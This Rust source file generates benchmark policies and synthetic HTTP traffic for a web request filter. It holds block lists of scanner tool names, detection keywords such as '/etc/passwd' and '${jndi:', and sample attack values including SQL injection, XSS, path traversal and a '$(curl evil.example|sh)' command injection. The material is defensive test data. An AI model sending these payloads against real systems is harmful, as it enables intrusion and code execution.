//! Generated rule sets and request corpora for the `evaluate` and `compile` groups, and for
//! `portcullis bench` comparisons.

use std::fmt::Write as _;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
use std::time::Duration;

use ipnet::IpNet;
use portcullis_decide::{Auth, AuthStatus, OwnedRequest};
use portcullis_match::PatternKind;

use crate::corpus::{self, Rng};

/// A double-quoted string with `"` and `\` escaped: valid both as a TOML basic string and
/// as a string literal inside a `when` condition.
fn quote(s: &str) -> String {
    let mut out = String::from("\"");
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// The paths of the generated application.
const AREAS: &[&str] = &[
    "shop", "api", "static", "account", "blog", "search", "cart", "media",
];

/// The large generated policy: a 10k-prefix block list, 1,000 user-agent patterns (900 in
/// one case-insensitive list, 100 as rules of their own, 10% regexes), 200 path rules,
/// auth and rate-limit rules. Returns the TOML and the block list.
pub fn large_policy(rng: &mut Rng) -> (String, Vec<IpNet>) {
    let (table, _) = corpus::routing_table();
    let blocklist = corpus::sample_prefixes(&table, 10_000, rng);
    let mut t = String::from("[policy]\ndefault = \"allow\"\nreveal = \"reason\"\n\n[lists]\n");
    t.push_str("blocklist = { kind = \"ip\", items = [");
    for (i, n) in blocklist.iter().enumerate() {
        if i > 0 {
            t.push_str(", ");
        }
        t.push_str(&quote(&n.to_string()));
    }
    t.push_str("] }\n");
    let patterns = corpus::agent_patterns(1000, 10, rng);
    let (listed, own): (Vec<_>, Vec<_>) = patterns
        .iter()
        .partition(|p| p.kind == PatternKind::Contains && p.case_insensitive);
    let (listed, mut own): (Vec<_>, Vec<_>) = {
        let cut = listed.len().min(900);
        let mut own: Vec<_> = own;
        own.extend(listed[cut..].iter().copied());
        (listed[..cut].to_vec(), own)
    };
    own.truncate(1000 - listed.len());
    t.push_str("bad_agents = { kind = \"pattern\", case = \"insensitive\", items = [");
    for (i, p) in listed.iter().enumerate() {
        if i > 0 {
            t.push_str(", ");
        }
        t.push_str(&quote(&p.text));
    }
    t.push_str(
        "] }\noffice = { kind = \"ip\", items = [\"203.0.113.0/24\", \"2001:db8:cafe::/48\"] }\n",
    );
    let rule = |t: &mut String, id: &str, when: &str, action: &str, extra: &str| {
        let _ = write!(t, "\n[[rule]]\nid = \"{id}\"\nwhen = {}\naction = \"{action}\"\nreason = \"generated\"\n{extra}", quote(when));
    };
    rule(
        &mut t,
        "office-allow",
        "ip in $office and path starts_with \"/internal/\"",
        "allow",
        "",
    );
    rule(&mut t, "blocklist", "ip in $blocklist", "forbid", "");
    rule(
        &mut t,
        "bad-agents",
        "user_agent contains_any $bad_agents",
        "forbid",
        "",
    );
    for (i, p) in own.iter().enumerate() {
        let lhs = if p.case_insensitive && p.kind != PatternKind::Regex {
            "lower(user_agent)"
        } else {
            "user_agent"
        };
        let text = if p.case_insensitive && p.kind != PatternKind::Regex {
            p.text.to_ascii_lowercase()
        } else {
            p.text.clone()
        };
        let text = if p.kind == PatternKind::Regex && p.case_insensitive {
            format!("(?i){text}")
        } else {
            text
        };
        let op = match p.kind {
            PatternKind::Contains => "contains",
            PatternKind::StartsWith => "starts_with",
            PatternKind::EndsWith => "ends_with",
            PatternKind::Equals => "==",
            PatternKind::Regex => "matches",
            PatternKind::Detect(d) => {
                let when = format!("{}({lhs})", d.name());
                rule(&mut t, &format!("agent-{i}"), &when, "forbid", "");
                continue;
            }
        };
        let when = format!("{lhs} {op} {}", quote(&text));
        rule(&mut t, &format!("agent-{i}"), &when, "forbid", "");
    }
    for i in 0..200 {
        let area = AREAS[i % AREAS.len()];
        let when = match i % 5 {
            0 => format!("path starts_with \"/{area}/private{i}/\""),
            1 => format!("path == \"/{area}/old-{i}.php\""),
            2 => format!("path starts_with \"/{area}/\" and path ends_with \".bak{i}\""),
            3 => format!("method == \"DELETE\" and path starts_with \"/{area}/items{i}/\""),
            _ => format!("path contains \"/wp-{i}/\" or arg[\"debug{i}\"] == \"1\""),
        };
        rule(
            &mut t,
            &format!("path-{i}"),
            &when,
            "forbid",
            if i % 7 == 0 { "hide = true\n" } else { "" },
        );
    }
    for (i, area) in AREAS.iter().enumerate() {
        rule(
            &mut t,
            &format!("admin-{area}"),
            &format!("path starts_with \"/{area}/admin/\" and not auth.roles has \"admin\""),
            "forbid",
            "",
        );
        rule(&mut t, &format!("scope-{area}"), &format!("method == \"POST\" and path starts_with \"/{area}/\" and not auth.scopes has \"write:{area}\" and auth.authenticated"), "log", "");
        rule(
            &mut t,
            &format!("tenant-{i}"),
            &format!("path starts_with \"/{area}/tenants/\" and path_segment(2) != auth.tenant"),
            "forbid",
            "",
        );
    }
    rule(
        &mut t,
        "api-login",
        "path starts_with \"/api/\" and not auth.authenticated",
        "forbid",
        "",
    );
    rule(
        &mut t,
        "login-throttle",
        "method == \"POST\" and path == \"/login\"",
        "rate_limit",
        "rate_limit = { key = [\"ip\"], limit = 5, period = \"1m\" }\n",
    );
    rule(
        &mut t,
        "api-quota",
        "path starts_with \"/api/\"",
        "rate_limit",
        "rate_limit = { key = [\"auth.subject\"], limit = 1000, period = \"1s\" }\n",
    );
    rule(&mut t, "search-quota", "path starts_with \"/search/\"", "rate_limit", "rate_limit = { key = [\"ip\"], limit = 100, period = \"1s\", burst = 200 }\nmode = \"shadow\"\n");
    (t, blocklist)
}

/// `n` rules of mixed kinds (paths, user agents, headers, auth, IP sets), for compile timing.
pub fn many_rules(n: usize, rng: &mut Rng) -> String {
    let mut t = String::from("[policy]\ndefault = \"allow\"\n");
    let agents = corpus::agent_patterns(n, 5, rng);
    for i in 0..n {
        let area = AREAS[i % AREAS.len()];
        let when = match i % 6 {
            0 => format!("path starts_with \"/{area}/r{i}/\""),
            1 => {
                let p = &agents[i];
                if p.kind == PatternKind::Regex {
                    format!("user_agent matches {}", quote(&p.text))
                } else {
                    format!(
                        "lower(user_agent) contains {}",
                        quote(&p.text.to_ascii_lowercase())
                    )
                }
            }
            2 => format!(
                "header[\"x-r{}\"] == \"v{i}\" and method == \"POST\"",
                i % 50
            ),
            3 => format!(
                "path starts_with \"/{area}/a{i}/\" and not auth.roles has \"role{}\"",
                i % 20
            ),
            4 => format!(
                "ip in {{10.{}.{}.0/24, 2001:db8:{:x}::/48}}",
                i / 256 % 256,
                i % 256,
                i
            ),
            _ => format!("arg[\"q\"] contains \"x{i}y\" or path ends_with \".r{i}\""),
        };
        let _ = write!(
            t,
            "\n[[rule]]\nid = \"r{i}\"\nwhen = {}\naction = \"forbid\"\n",
            quote(&when)
        );
    }
    t
}

/// A request mix: browsers and scanners, v4 and v6 clients with a share inside `blocklist`,
/// application paths including encoded evasions, and auth contexts.
pub fn requests(n: usize, blocklist: &[IpNet], rng: &mut Rng) -> Vec<OwnedRequest> {
    let agents = corpus::user_agents(n, rng);
    let inside = if blocklist.is_empty() {
        Vec::new()
    } else {
        corpus::addrs_in(blocklist, n, rng)
    };
    let random = corpus::random_addrs(n, rng);
    (0..n)
        .map(|i| {
            let area = AREAS[rng.below(AREAS.len())];
            let uri = match rng.below(20) {
                0 => format!("/{area}/admin/users"),
                1 => format!("/%61pi/orders/{}", rng.below(1000)),
                2 => format!("//{area}/x/../private{}/file", rng.below(200)),
                3 => "/login".to_string(),
                4 => format!("/{area}/tenants/t{}/invoices", rng.below(5)),
                5 => format!("/search/?q=shoes&page={}", rng.below(10)),
                6 => format!("/{area}/old-{}.php", rng.below(200)),
                7 => "/.env".to_string(),
                _ => format!(
                    "/{area}/items/{}?ref=home&utm_source=mail",
                    rng.below(100_000)
                ),
            };
            let client_ip = Some(if !inside.is_empty() && rng.chance(10) {
                inside[i]
            } else {
                random[i]
            });
            let auth = match rng.below(20) {
                0..=7 => Auth::default(),
                8 => Auth {
                    status: Some(AuthStatus::Invalid),
                    ..Auth::default()
                },
                9..=10 => Auth::authenticated(format!("admin{}", rng.below(10)))
                    .with_roles(["admin"])
                    .with_tenant("t1"),
                _ => Auth::authenticated(format!("user{}", rng.below(1000)))
                    .with_roles(["viewer"])
                    .with_scopes([format!("write:{area}")])
                    .with_tenant(format!("t{}", rng.below(5))),
            };
            OwnedRequest {
                id: None,
                client_ip,
                method: if rng.chance(20) { "POST" } else { "GET" }.to_string(),
                uri,
                version: Some("HTTP/1.1".to_string()),
                headers: vec![
                    ("host".into(), "shop.example".into()),
                    ("user-agent".into(), agents[i].clone()),
                    ("accept".into(), "text/html,application/xhtml+xml".into()),
                    (
                        "cookie".into(),
                        format!("session={:x}; theme=dark", rng.next_u64()),
                    ),
                ],
                auth,
                geo_country: None,
                attrs: Vec::new(),
                time: Some(Duration::from_secs(1_767_225_600 + i as u64)),
                body: None,
                response: None,
            }
        })
        .collect()
}

/// Scanner and attack-tool names as they appear in user agents: the small policy's list.
pub const SCANNERS: &[&str] = &[
    "sqlmap",
    "nikto",
    "nmap",
    "masscan",
    "zgrab",
    "nuclei",
    "wpscan",
    "dirbuster",
    "gobuster",
    "dirb",
    "feroxbuster",
    "ffuf",
    "wfuzz",
    "acunetix",
    "netsparker",
    "appscan",
    "burpcollaborator",
    "nessus",
    "openvas",
    "qualys",
    "w3af",
    "skipfish",
    "arachni",
    "vega",
    "zaproxy",
    "owasp-zap",
    "havij",
    "pangolin",
    "jaeles",
    "xsstrike",
    "commix",
    "joomscan",
    "droopescan",
    "cmsmap",
    "whatweb",
    "wappalyzer",
    "httpx",
    "subfinder",
    "amass",
    "shodan",
    "censys",
    "zmap",
    "internet-measurement",
    "leakix",
    "expanse",
    "paloaltonetworks",
    "netcraft",
    "webinspect",
    "hydra",
    "medusa",
    "brutus",
    "fimap",
    "grabber",
    "paros",
    "ratproxy",
    "sqlninja",
    "bsqlbypass",
    "mysqloit",
    "morfeus",
    "zmeu",
    "blackwidow",
    "webshag",
    "uniscan",
    "golismero",
    "wafw00f",
    "dotdotpwn",
    "crimscanner",
    "absinthe",
    "jbrofuzz",
    "webreaper",
    "nstealth",
    "pmafind",
    "muieblackcat",
    "dataprovider",
    "l9explore",
    "l9tcpid",
    "xfa1",
    "fuzz-faster",
    "masscan-ng",
    "python-httpx",
    "scrapy",
    "headlesschrome",
    "phantomjs",
    "libwww-perl",
    "go-http-client",
    "python-requests",
    "nmap-nse",
    "pycurl",
];

/// The small rule set an operator writes first, as issue 11 and the ModSecurity comparison
/// describe it: an 11,000-prefix IPv4/IPv6 block list, the [`SCANNERS`] as
/// case-insensitive substrings of the user agent, and three rules on the decoded,
/// normalised, lower-cased path (a prefix, a regex, an exact match). Returns the TOML and
/// the block list.
pub fn small_policy(rng: &mut Rng) -> (String, Vec<IpNet>) {
    let (table, _) = corpus::routing_table();
    let blocklist = corpus::sample_prefixes(&table, 11_000, rng);
    let mut t = String::from(
        "[policy]\ndefault = \"allow\"\n\n[lists]\nblocklist = { kind = \"ip\", items = [",
    );
    let nets: Vec<String> = blocklist.iter().map(|n| quote(&n.to_string())).collect();
    t.push_str(&nets.join(", "));
    t.push_str("] }\nscanners = { kind = \"pattern\", case = \"insensitive\", items = [");
    let names: Vec<String> = SCANNERS.iter().map(|s| quote(s)).collect();
    t.push_str(&names.join(", "));
    t.push_str("] }\n");
    t.push_str(
        r#"
[[rule]]
id = "blocklist"
when = 'ip in $blocklist'
action = "forbid"

[[rule]]
id = "scanners"
when = 'user_agent contains_any $scanners'
action = "forbid"

[[rule]]
id = "admin"
when = 'lower(path) starts_with "/wp-admin"'
action = "forbid"
hide = true

[[rule]]
id = "dotfiles"
when = 'lower(path) matches "\\.(?:git|env)(?:[/.]|$)"'
action = "forbid"
hide = true

[[rule]]
id = "xmlrpc"
when = 'lower(path) == "/xmlrpc.php"'
action = "forbid"
"#,
    );
    (t, blocklist)
}

/// The small policy's traffic: 88% IPv4 clients outside the block list, 5% inside it, 6%
/// IPv6 (1% without an address); browser user agents with 5% scanners; application paths
/// with 10% probes and encoded evasions of them.
pub fn small_requests(n: usize, blocklist: &[IpNet], rng: &mut Rng) -> Vec<OwnedRequest> {
    let browsers = corpus::user_agents(n, rng);
    let inside = corpus::addrs_in(blocklist, n, rng);
    (0..n)
        .map(|i| {
            let client_ip = match rng.below(100) {
                0..=87 => Some(IpAddr::V4(Ipv4Addr::from(rng.next_u64() as u32))),
                88..=92 => inside.get(i).copied(),
                93..=98 => Some(IpAddr::V6(Ipv6Addr::from(
                    (0x2000u128 << 112) | (rng.next_u128() >> 3),
                ))),
                _ => None,
            };
            let agent = if rng.chance(5) {
                format!("{}/{}.{}", rng.pick(SCANNERS), rng.below(10), rng.below(10))
            } else {
                browsers[i].clone()
            };
            let area = AREAS[rng.below(AREAS.len())];
            let uri = match rng.below(100) {
                0 => "/.git/config".to_string(),
                1 => "/%2Egit/HEAD".to_string(),
                2 => "/static/.ENV".to_string(),
                3 => "/WP-Admin/install.php".to_string(),
                4 => "/%77p-admin/".to_string(),
                5 => "/xmlrpc.php".to_string(),
                6 => "/XMLRPC.PHP?rsd".to_string(),
                7 => format!("/{area}/%2e%2e/wp-admin/"),
                8 => format!("/{area}/app.{}.js", rng.below(100)),
                9 => format!("/search?q=%3Cscript%3E&page={}", rng.below(10)),
                _ => format!("/{area}/items/{}?ref=home", rng.below(100_000)),
            };
            OwnedRequest {
                id: None,
                client_ip,
                method: if rng.chance(10) { "POST" } else { "GET" }.to_string(),
                uri,
                version: Some("HTTP/1.1".to_string()),
                headers: vec![
                    ("host".into(), "shop.example".into()),
                    ("user-agent".into(), agent),
                    ("accept".into(), "text/html,application/xhtml+xml".into()),
                    ("accept-language".into(), "en-US,en;q=0.9".into()),
                ],
                auth: Auth::default(),
                geo_country: None,
                attrs: Vec::new(),
                time: Some(Duration::from_secs(1_767_225_600 + i as u64)),
                body: None,
                response: None,
            }
        })
        .collect()
}

/// Rewrites each request's Chrome user agent as Chrome has sent it since its user-agent
/// reduction (version 101): `Chrome/MAJOR.0.0.0`, the build numbers frozen, so the agents
/// of real traffic repeat (Firefox and Safari send `MAJOR.0` and `17.x` already).
/// [`corpus::user_agents`] draws the build numbers at random, so that every agent is new:
/// the harder case for a cache of values, which the other benches keep. The CRS mix, meant
/// to be realistic, freezes them.
pub fn reduce_chrome_agents(reqs: &mut [OwnedRequest]) {
    for r in reqs {
        for (name, value) in &mut r.headers {
            if name.eq_ignore_ascii_case("user-agent") {
                if let Some(reduced) = reduced_chrome(value) {
                    *value = reduced;
                }
            }
        }
    }
}

/// `agent` with its Chrome version reduced to `MAJOR.0.0.0`; `None` for another agent.
fn reduced_chrome(agent: &str) -> Option<String> {
    let (head, rest) = agent.split_once("Chrome/")?;
    let (major, _) = rest.split_once('.')?;
    let tail = rest.find(' ').map_or("", |at| &rest[at..]);
    Some(format!("{head}Chrome/{major}.0.0.0{tail}"))
}

/// Fifty rules that read bodies, as an API's operator writes them beside the starter pack:
/// fields of a JSON API (`arg["user.email"]`…), every argument under several decoding
/// chains, the body fields.
#[must_use]
pub fn body_rules() -> String {
    let mut t = String::new();
    let mut rule = |id: &str, when: &str| {
        let _ = write!(
            t,
            "\n[[rule]]\nid = \"{id}\"\nwhen = '{when}'\naction = \"forbid\"\n"
        );
    };
    rule("unreadable", "present(body.error) or body.truncated");
    for (i, field) in [
        "email",
        "name",
        "address.city",
        "address.zip",
        "phone",
        "role",
        "plan",
        "locale",
    ]
    .iter()
    .enumerate()
    {
        rule(
            &format!("user-{i}-long"),
            &format!("len(arg[\"user.{field}\"]) > 512"),
        );
        rule(
            &format!("user-{i}-ctl"),
            &format!("arg[\"user.{field}\"] matches \"[\\\\x00-\\\\x08]\""),
        );
    }
    rule(
        "role",
        "arg[\"user.role\"] in {\"admin\", \"root\", \"superuser\"}",
    );
    rule("plan", "arg[\"user.plan\"] == \"internal\"");
    let words = [
        "<script",
        "javascript:",
        "onerror=",
        "onload=",
        "union select",
        "sleep(",
        "../",
        "/etc/passwd",
        "$(",
        "${jndi:",
        "<!entity",
        "<?php",
        "eval(",
        "base64_decode(",
        "document.cookie",
        "xp_cmdshell",
        "benchmark(",
        "information_schema",
        "load_file(",
        "into outfile",
    ];
    for (i, w) in words.iter().enumerate() {
        let chain = [
            "lower(args)",
            "lower(url_decode_uni(args))",
            "lower(html_entity_decode(args))",
        ][i % 3];
        rule(&format!("word-{i}"), &format!("{chain} contains \"{w}\""));
    }
    for (i, re) in [
        "(?i)\\\\bunion\\\\s+select\\\\b",
        "(?i)<\\\\s*script",
        "\\\\.\\\\./",
        "(?i)\\\\$\\\\{[a-z]+:",
    ]
    .iter()
    .enumerate()
    {
        rule(
            &format!("re-{i}"),
            &format!("url_decode_uni(args) matches \"{re}\""),
        );
    }
    rule("names", "arg_names matches \"[^a-zA-Z0-9_.\\\\[\\\\]-]\"");
    rule(
        "files",
        "lower(files) ends_with_any {\".php\", \".jsp\", \".exe\"}",
    );
    rule("comment-len", "len(arg[\"comment\"]) > 2000");
    t
}

/// Small bodies as browsers and apps post them: half forms (a login, a search, a
/// comment), half small JSON (an item added to a cart, a profile update), 100 to 400 bytes
/// each, 5 % carrying an attack in one value.
#[must_use]
pub fn small_body_requests(n: usize, rng: &mut Rng) -> Vec<OwnedRequest> {
    let attacks = [
        "<script>alert(1)</script>",
        "1' UNION SELECT password FROM users--",
        "../../etc/passwd",
        "$(curl evil.example|sh)",
    ];
    (0..n)
        .map(|i| {
            let text = if rng.chance(20) {
                attacks[rng.below(attacks.len())].to_string()
            } else {
                ["Great shoes, fast delivery", "Size 42 please", "blue"][rng.below(3)].to_string()
            };
            let (uri, content_type, body) = match rng.below(4) {
                0 => (
                    "/login",
                    "application/x-www-form-urlencoded",
                    format!(
                        "username=user{}&password=Secret-{}&remember=1",
                        rng.below(10_000),
                        rng.next_u64() % 1_000_000
                    ),
                ),
                1 => (
                    "/reviews",
                    "application/x-www-form-urlencoded",
                    format!(
                        "item={}&rating={}&comment={}",
                        rng.below(100_000),
                        1 + rng.below(5),
                        text.replace(' ', "+")
                    ),
                ),
                2 => (
                    "/api/v1/cart",
                    "application/json",
                    format!(
                        "{{\"sku\": \"SKU-{:06}\", \"qty\": {}, \"note\": {}}}",
                        rng.below(1_000_000),
                        1 + rng.below(5),
                        serde_json_string(&text)
                    ),
                ),
                _ => (
                    "/api/v1/profile",
                    "application/json",
                    format!(
                        "{{\"name\": \"Customer {i}\", \"email\": \"user{i}@example.com\", \"newsletter\": true, \"bio\": {}}}",
                        serde_json_string(&text)
                    ),
                ),
            };
            let headers = vec![
                ("host".into(), "shop.example".into()),
                (
                    "user-agent".into(),
                    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0".into(),
                ),
                ("content-type".into(), content_type.into()),
                ("cookie".into(), format!("session={:x}", rng.next_u64())),
            ];
            let client = Ipv4Addr::new(198, 51, 100, (i % 250) as u8);
            post(i, client, uri, headers, Auth::default(), body)
        })
        .collect()
}

/// API traffic with ~4 KB JSON bodies (a user, an order with line items, a comment), 5%
/// carrying an attack in one value.
#[must_use]
pub fn json_requests(n: usize, rng: &mut Rng) -> Vec<OwnedRequest> {
    let attacks = [
        "<script>alert(1)</script>",
        "1' UNION SELECT password FROM users--",
        "../../etc/passwd",
        "${jndi:ldap://x/a}",
        "$(curl evil.example|sh)",
    ];
    (0..n)
        .map(|i| {
            let mut body = String::from("{\"user\": {");
            let _ = write!(
                body,
                "\"email\": \"user{i}@example.com\", \"name\": \"Customer {i}\", \"phone\": \"+1 555 01{:02}\", \"role\": \"customer\", \"plan\": \"pro\", \"locale\": \"en-US\", \"address\": {{\"street\": \"{} Main Street\", \"city\": \"Springfield\", \"zip\": \"{:05}\"}}}}, \"order\": {{\"id\": {}, \"items\": [",
                rng.below(100),
                rng.below(1000),
                rng.below(99_999),
                rng.next_u64() % 1_000_000
            );
            while body.len() < 3600 {
                let _ = write!(
                    body,
                    "{{\"sku\": \"SKU-{:06}\", \"qty\": {}, \"price\": {}.{:02}, \"note\": \"gift wrap, deliver after 5pm\"}}, ",
                    rng.below(1_000_000),
                    1 + rng.below(5),
                    rng.below(200),
                    rng.below(100)
                );
            }
            body.truncate(body.len() - 2);
            let comment = if rng.chance(5) {
                attacks[rng.below(attacks.len())].to_string()
            } else {
                "Please leave the parcel with the neighbour if nobody is home.".to_string()
            };
            let _ = write!(body, "]}}, \"comment\": {}}}", serde_json_string(&comment));
            let headers = vec![
                ("host".into(), "shop.example".into()),
                ("user-agent".into(), "okhttp/4.12.0".into()),
                ("content-type".into(), "application/json".into()),
                ("authorization".into(), "Bearer t".into()),
            ];
            let client = Ipv4Addr::new(203, 0, 113, (i % 250) as u8);
            let auth = Auth::authenticated(format!("u{}", i % 50));
            post(i, client, "/api/v1/orders", headers, auth, body)
        })
        .collect()
}

/// The `i`-th POST of a body generator: from `client`, to `uri`, carrying `body`.
fn post(
    i: usize,
    client: Ipv4Addr,
    uri: &str,
    headers: Vec<(String, String)>,
    auth: Auth,
    body: String,
) -> OwnedRequest {
    OwnedRequest {
        id: None,
        client_ip: Some(IpAddr::V4(client)),
        method: "POST".to_string(),
        uri: uri.to_string(),
        version: Some("HTTP/1.1".to_string()),
        headers,
        auth,
        geo_country: None,
        attrs: Vec::new(),
        time: Some(Duration::from_secs(1_800_000_000 + i as u64)),
        body: Some(body.into_bytes()),
        response: None,
    }
}

/// A JSON string literal.
fn serde_json_string(s: &str) -> String {
    let mut out = String::from("\"");
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}
